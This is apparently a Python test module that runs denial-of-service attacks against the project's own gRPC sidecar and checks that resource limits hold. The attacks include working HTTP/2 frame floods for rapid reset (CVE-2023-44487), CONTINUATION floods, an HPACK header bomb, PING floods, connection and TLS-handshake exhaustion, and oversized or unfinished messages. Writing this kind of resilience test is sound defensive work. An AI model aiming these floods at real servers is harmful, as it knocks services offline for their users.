"""Callers that exhaust memory, call slots and descriptors over gRPC."""

from __future__ import annotations

import contextlib
import itertools
import os
import socket
import ssl
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import grpc
import trustme
from h2.exceptions import ProtocolError

from sidecar.pb.dcsidecar.v1 import routing_pb2 as pb
from tests.attack import http2
from tests.attack.attack import Attack, Stage
from tests.attack.cases.stalling import _call
from tests.attack.texts import LARGE, PLACEHOLDER, document, many_apps, write_requests
from tests.harness import code_of

_MIB = 1024**2
_BIG = 15 * _MIB


def _big_request(stage: Stage) -> None:
    request = pb.FilterWorkersRequest(
        app="any",
        job="1",
        candidates=[pb.Worker(address=f"{n:06d}-" + "x" * 145, datacenter="dc1") for n in range(_BIG // 160)],
    ).SerializeToString()
    ended: dict[str, int] = {}
    for number in stage.rounds(every=0.2):
        code = _call(stage, request + pb.FilterWorkersRequest(instance=str(number)).SerializeToString())
        ended[code] = ended.get(code, 0) + 1
    stage.note(f"requests of {len(request) / _MIB:.1f} MiB: {ended}")


def _incomplete_messages(stage: Stage) -> None:
    """Open 300 calls on one connection, each with an incomplete message of 15 MiB."""
    piece = http2.message(b"", length=_BIG) + b"x" * (1 << 17)
    with http2.Lawful(stage.sidecar.connect()) as connection:
        streams: list[int] = []
        sent = 0
        while stage.left > 0 and stage.sidecar.lived and not connection.gone:
            connection.read()
            if len(streams) < 300:
                with contextlib.suppress(ProtocolError):
                    streams.append(connection.open(http2.FILTER))
                    sent += connection.data(streams[-1], piece)
            moved = 0
            for stream in streams:
                moved += connection.data(stream, piece[5:])
                if stage.left <= 0 or connection.gone:
                    break
            sent += moved
            if not moved and len(streams) == 300:
                connection.read(0.02)
        stage.note(f"{len(streams)} calls opened, {sent / _MIB:.0f} MiB of unfinished messages were taken")
        stage.wait()


def _no_message(stage: Stage) -> None:
    """Open 2,000 calls that send headers and no message."""
    with contextlib.ExitStack() as stack:
        opened = refused = 0
        for _ in range(2):
            connection = stack.enter_context(http2.Lawful(stage.sidecar.connect()))
            for _ in range(1000):
                try:
                    connection.open(http2.FILTER)
                except ProtocolError:
                    refused += 1
                    break
                opened += 1
            connection.read()
        stage.note(f"{opened} calls without a message were opened; {refused} connections allowed no more")
        stage.wait()


def _no_message_streams(stage: Stage) -> None:
    """Open streams that send headers and no message, then use the methods as another client."""
    paths = ("/dcsidecar.v1.RoutingService/FilterWorkersStream", http2.WATCH)
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(http2.Lawful(stage.sidecar.connect())) for _ in paths]
        for connection, path in zip(connections, paths, strict=True):
            with contextlib.suppress(ProtocolError):
                for _ in range(1100):
                    connection.open(path)
            connection.read()
        with grpc.insecure_channel(stage.sidecar.target, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
            for method in ("FilterWorkersStream", "WatchRoutes"):
                call = channel.stream_stream(f"/dcsidecar.v1.RoutingService/{method}", None, None)
                request = pb.FilterWorkersRequest(app="any").SerializeToString() if "Filter" in method else b""
                try:
                    next(iter(call(iter((request,)), timeout=3)))
                except grpc.RpcError as error:
                    stage.find(f"another client's {method} ended with {code_of(error).name}")
        stage.wait()


def _watchers(stage: Stage) -> None:
    """Open 800 WatchRoutes streams that do not read, and change 10,000 applications."""
    opened = 0
    with contextlib.ExitStack() as stack:
        for _ in range(8):
            connection = stack.enter_context(http2.Lawful(stage.sidecar.connect(), window=1 << 20))
            with contextlib.suppress(ProtocolError):
                for _ in range(100):
                    stream = connection.open(http2.WATCH)
                    connection.data(stream, http2.message(b""), end=True)
                    opened += 1
        stage.note(f"{opened} watches were opened")
        for number in stage.rounds(every=0.5):
            stage.put(document(many_apps(10_000 - number % 2, f"dc{number % 3 + 1}")))


def _sightings(stage: Stage) -> None:
    """Send unknown applications, each with workers in 64 datacenters with long names."""
    requests = [
        pb.FilterWorkersRequest(
            app=(PLACEHOLDER + str(number)).ljust(250, "x"),
            candidates=[pb.Worker(address="a", datacenter=f"{number}-{n}".ljust(250, "y")) for n in range(64)],
            dispatch=True,
        )
        for number in range(256)
    ]
    stage.flooded(stage.flood(write_requests(stage.folder / "flood", requests), rate=1500))


def _rapid_reset(stage: Stage) -> None:
    """Open streams and reset them at once (CVE-2023-44487)."""
    headers, reset = http2.block(), (8).to_bytes(4, "big")

    def pieces() -> Iterator[bytes]:
        for first in itertools.count(1, 200):
            yield b"".join(
                http2.frame(http2.HEADERS, stream, headers, flags=http2.END_HEADERS)
                + http2.frame(http2.RST_STREAM, stream, reset)
                for stream in range(first, first + 200, 2)
            )

    _floods(stage, pieces)


def _reset_after_message(stage: Stage) -> None:
    """Send complete calls and reset them before the answer."""
    request = http2.message(pb.FilterWorkersRequest(app="any", job="1").SerializeToString())
    headers, reset = http2.block(), (8).to_bytes(4, "big")

    def pieces() -> Iterator[bytes]:
        for first in itertools.count(1, 100):
            yield b"".join(
                http2.frame(http2.HEADERS, stream, headers, flags=http2.END_HEADERS)
                + http2.frame(http2.DATA, stream, request, flags=http2.END_STREAM)
                + http2.frame(http2.RST_STREAM, stream, reset)
                for stream in range(first, first + 100, 2)
            )

    _floods(stage, pieces)


def _continuations(stage: Stage) -> None:
    """Send a header block without end (CVE-2024-27316)."""
    value = os.urandom(8000).hex().encode()
    field = b"\x00\x05x-pad" + b"\x7f" + _integer(len(value) - 127) + value
    more = http2.frame(http2.CONTINUATION, 1, field[:16_384])

    def pieces() -> Iterator[bytes]:
        yield http2.frame(http2.HEADERS, 1, http2.block())
        while True:
            yield more * 16

    _floods(stage, pieces)


def _header_bomb(stage: Stage) -> None:
    """Refer to an indexed header of 4 KB thousands of times, with one byte each."""
    value = b"v" * 3900
    entry = b"\x40\x05x-pad" + b"\x7f" + _integer(len(value) - 127) + value
    bomb = http2.block() + entry + b"\xbe" * (16_384 - len(entry) - len(http2.block()))

    def pieces() -> Iterator[bytes]:
        for stream in itertools.count(1, 2):
            yield http2.frame(http2.HEADERS, stream, bomb, flags=http2.END_HEADERS)

    _floods(stage, pieces)


def _integer(number: int) -> bytes:
    """Return the rest of an HPACK integer (RFC 7541, section 5.1)."""
    encoded = bytearray()
    while number >= 128:
        encoded.append(number % 128 + 128)
        number //= 128
    encoded.append(number)
    return bytes(encoded)


def _pings(stage: Stage) -> None:
    """Send PING and SETTINGS without reading the answers (CVE-2019-9512, CVE-2019-9515)."""
    many = http2.frame(http2.PING, 0, b"12345678") * 500 + http2.frame(http2.SETTINGS, 0) * 500
    _floods(stage, lambda: itertools.repeat(many), hold=True)


def _empty_frames(stage: Stage) -> None:
    """Send empty DATA frames on an open call (CVE-2019-9518)."""

    def pieces() -> Iterator[bytes]:
        yield http2.frame(http2.HEADERS, 1, http2.block(), flags=http2.END_HEADERS)
        while True:
            yield http2.frame(http2.DATA, 1) * 1000

    _floods(stage, pieces)


def _floods(stage: Stage, pieces: Callable[[], Iterator[bytes]], *, hold: bool = False) -> None:
    """Send a flood; reconnect when the sidecar closes the connection."""
    connections, sent = 0, 0
    until = time.monotonic() + stage.left
    while time.monotonic() < until and stage.sidecar.lived:
        with http2.Flood(stage.sidecar.connect(), hold=hold) as flood:
            connections += 1
            flood.push(pieces(), until)
            sent += flood.sent
        time.sleep(0.01)
    stage.note(f"{sent / _MIB:.1f} MiB sent over {connections} connections")


def _idle_connections(stage: Stage) -> None:
    """Open 3,000 connections that send nothing or only the preface."""
    held: list[socket.socket] = []
    with contextlib.ExitStack() as stack:
        for _ in stage.rounds():
            if len(held) >= 3000:
                break
            try:
                held.append(stack.enter_context(contextlib.closing(stage.sidecar.connect())))
                if len(held) % 2:
                    held[-1].sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0))
            except OSError:
                time.sleep(0.01)
        stage.note(f"{len(held)} connections were opened, {_open(held)} are open still")
        stage.expect(stage.sidecar.run("status", within=10).returncode == 0, "`dc-sidecar status` is refused meanwhile")
        stage.change_in_time(document(rest="meta: {during: attack}\n"))
        stage.wait()


def _open(held: list[socket.socket]) -> int:
    still = 0
    for connection in held:
        connection.setblocking(False)
        with contextlib.suppress(BlockingIOError, OSError):
            while connection.recv(4096):
                pass
            continue
        still += 1
    return still


def _half_open_tls(stage: Stage) -> None:
    """Begin 2,400 TLS handshakes without finishing them, then connect as other clients."""
    sidecar = stage.sidecar
    authority = trustme.CA()
    certificate = authority.issue_cert("127.0.0.1")
    cert, key, ca = (Path(stage.folder / name) for name in ("cert.pem", "key.pem", "ca.pem"))
    cert.write_bytes(b"".join(blob.bytes() for blob in certificate.cert_chain_pems))
    key.write_bytes(certificate.private_key_pem.bytes())
    ca.write_bytes(authority.cert_pem.bytes())
    sidecar.start(ready=False)
    assert sidecar.wait_log("serves file:", 15), "the sidecar did not start"
    context = ssl.create_default_context(cafile=str(ca))
    context.set_alpn_protocols(["h2"])
    hello = _client_hello(context)
    status = ("status", "--sidecar", sidecar.target, "--ca", str(ca))
    first = sidecar.run(*status)
    stage.expect(first.returncode == 0, f"the sidecar with TLS does not answer: {first.stderr[-200:]!r}")
    with contextlib.ExitStack() as stack:
        held = []
        stage.begin()
        for port in (sidecar.grpc, sidecar.http):
            for number in range(1200):
                try:
                    connection = stack.enter_context(contextlib.closing(sidecar.connect(port)))
                    if number % 2:
                        connection.sendall(hello[: len(hello) // 2] if number % 3 else hello)
                    held.append(connection)
                except OSError:
                    time.sleep(0.005)
        stage.note(f"{len(held)} handshakes were begun")
        began = time.monotonic()
        done = sidecar.run(*status)
        took = time.monotonic() - began
        stage.expect(done.returncode == 0, f"meanwhile another client is refused: {done.stderr[-200:]!r}")
        stage.expect(took < 5, f"meanwhile another client waits {took:.1f} s for its answer")
        try:
            with context.wrap_socket(sidecar.connect(sidecar.http), server_hostname="127.0.0.1") as asking:
                asking.settimeout(5)
                asking.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
                answer = asking.recv(100)
            stage.expect(b" 200 " in answer, f"meanwhile /healthz answers {answer[:60]!r}")
        except OSError as error:
            stage.find(f"meanwhile /healthz is refused: {error}")


def _client_hello(context: ssl.SSLContext) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = context.wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    with contextlib.suppress(ssl.SSLWantReadError):
        connection.do_handshake()
    return outgoing.read()


def _slow_reader(stage: Stage) -> None:
    """Request large answers with flow-control windows of 0."""
    request = pb.FilterWorkersRequest(
        app="any", candidates=[pb.Worker(address=f"{n}".ljust(500, "x"), datacenter="dc1") for n in range(1000)]
    ).SerializeToString()
    asked = 0
    with contextlib.ExitStack() as stack:
        for _ in stage.rounds():
            try:
                connection = stack.enter_context(http2.Lawful(stage.sidecar.connect(), window=0))
                for _ in range(50):
                    connection.read()
                    stream = connection.open(http2.FILTER)
                    left = http2.message(request)
                    while left and stage.left > 0 and not connection.gone:
                        left = left[connection.data(stream, left, end=True) :]
                        connection.read(0.001)
                    asked += 1
            except (ProtocolError, OSError):
                time.sleep(0.05)
        stage.note(f"{asked} answers of 0.5 MB were asked for and not read")


ATTACKS = [
    Attack(
        name="request-15mib",
        run=_big_request,
        item="7",
        product="A request of 15 MiB is refused with RESOURCE_EXHAUSTED where the budget of memory has no room for it.",
        short=True,
    ),
    Attack(
        name="incomplete-messages",
        run=_incomplete_messages,
        item="7",
        product="The memory of incomplete messages is bounded, per connection and in total.",
        short=True,
    ),
    Attack(
        name="watch-no-read",
        memory=LARGE,
        run=_watchers,
        item="7",
        product="For a watcher that does not read only the newest update is kept; backlogs are bounded.",
        document=lambda: document(many_apps(10_000)),
    ),
    Attack(
        name="answers-no-read",
        run=_slow_reader,
        item="7",
        product="The memory of answers that clients do not read is bounded.",
    ),
    Attack(
        name="sightings",
        run=_sightings,
        item="7",
        product="The record of live workers is bounded in bytes.",
    ),
    Attack(
        name="no-message",
        run=_no_message,
        item="8",
        product="A call without a message ends at a deadline; one client cannot take all call slots.",
        short=True,
    ),
    Attack(
        name="no-message-streams",
        run=_no_message_streams,
        item="8",
        product="One client cannot take all stream slots.",
    ),
    Attack(
        name="rapid-reset",
        run=_rapid_reset,
        item="8",
        product="Rapid resets are bounded: the connection is closed.",
    ),
    Attack(
        name="reset-after-message",
        run=_reset_after_message,
        item="8",
        product="Calls that are reset before their answer are bounded: the connection is closed.",
    ),
    Attack(
        name="continuation-flood",
        memory=LARGE,
        run=_continuations,
        item="8",
        product="Header blocks are bounded across CONTINUATION frames: the connection is closed.",
    ),
    Attack(
        name="header-bomb",
        run=_header_bomb,
        item="8",
        product="Headers are bounded by their decoded size.",
        open="until a client acknowledges our settings, gRPC takes 16 MiB of headers for each of 100 streams, and "
        "Python converts them on the thread that answers",
    ),
    Attack(
        name="rapid-reset-at-envoy",
        front=True,
        run=_rapid_reset,
        item="8",
        product="With Envoy in front (deploy/envoy), rapid reset fails no call of others on the same connection.",
    ),
    Attack(
        name="continuation-flood-at-envoy",
        front=True,
        run=_continuations,
        item="8",
        product="With Envoy in front, header blocks without end never reach the sidecar.",
    ),
    Attack(
        name="header-bomb-at-envoy",
        front=True,
        run=_header_bomb,
        item="8",
        product="With Envoy in front, header blocks that are large only decoded never reach the sidecar.",
        short=True,
    ),
    Attack(
        name="ping-flood",
        run=_pings,
        item="8",
        product="A client that sends PING and SETTINGS without reading the answers is disconnected and delays nobody.",
    ),
    Attack(
        name="empty-frames",
        run=_empty_frames,
        item="8",
        product="Floods of empty frames delay nobody.",
    ),
    Attack(
        name="idle-connections",
        open="3,000 connections within half a second delay others by 100 ms; a new client may be refused meanwhile",
        run=_idle_connections,
        item="9",
        product="gRPC connections are bounded; source, command line and HTTP keep descriptors.",
    ),
    Attack(
        name="half-open-tls",
        run=_half_open_tls,
        item="9",
        product="Unfinished TLS handshakes are bounded in time and number; other clients are served.",
        # The least that the chart gives with HTTP.
        memory=96 * _MIB,
        flags=("--tls-cert=cert.pem", "--tls-key=key.pem"),
        calls=False,
        starts=False,
    ),
]
